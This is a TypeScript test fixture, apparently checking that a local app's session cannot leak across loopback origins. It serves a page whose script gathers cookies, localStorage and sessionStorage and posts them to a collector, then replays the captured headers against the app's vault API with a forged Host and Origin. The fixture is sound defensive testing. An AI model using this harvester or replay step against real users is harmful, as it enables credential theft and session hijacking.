import { createServer, type IncomingHttpHeaders, request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';

/** A page on another 127.0.0.1 port that the user visits: it records every request and what its script can read. */
export interface Bystander {
  origin: string;
  /** The headers of every request it received (cookies included). */
  requests: IncomingHttpHeaders[];
  /** What its page's script found in document.cookie, localStorage and sessionStorage (non-empty only). */
  readable: string[];
  /** Replays what it got against the app server's API as an attacker's process would: any Host and Origin. */
  replay(appOrigin: string, extraHeaders?: Record<string, string>): Promise<number>;
  close(): Promise<void>;
}

const page = `<!doctype html><title>bystander</title><script>
const found = [document.cookie, JSON.stringify({ ...localStorage }), JSON.stringify({ ...sessionStorage })]
  .filter((text) => text && text !== '{}');
fetch('/found', { method: 'POST', body: JSON.stringify(found) }).then(() => { document.title = 'recorded'; });
</script>`;

/** Starts the bystander on a free loopback port. */
export async function startBystander(): Promise<Bystander> {
  const requests: IncomingHttpHeaders[] = [];
  const readable: string[] = [];
  const server: Server = createServer((incoming, response) => {
    requests.push(incoming.headers);
    let body = '';
    incoming.on('data', (chunk) => {
      body += chunk;
    });
    incoming.on('end', () => {
      if (incoming.url === '/found') readable.push(...(JSON.parse(body) as string[]));
      response.writeHead(200, { 'Content-Type': 'text/html' });
      response.end(incoming.url === '/found' ? '' : page);
    });
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    origin,
    requests,
    readable,
    async replay(appOrigin, extraHeaders = {}) {
      const app = new URL(appOrigin);
      const recorded = Object.assign({}, ...requests) as IncomingHttpHeaders;
      const headers = {
        ...recorded,
        ...extraHeaders,
        host: app.host,
        origin: appOrigin,
        'content-type': 'application/json',
      };
      delete headers['content-length'];
      return new Promise<number>((resolve, reject) => {
        const outgoing = request(
          { host: app.hostname, port: app.port, path: '/api/vault:status', method: 'POST', headers },
          (response) => {
            response.resume();
            resolve(response.statusCode ?? 0);
          },
        );
        outgoing.on('error', reject);
        outgoing.end('{}');
      });
    },
    close: () =>
      new Promise<void>((done) => {
        server.closeAllConnections();
        server.close(() => done());
      }),
  };
}
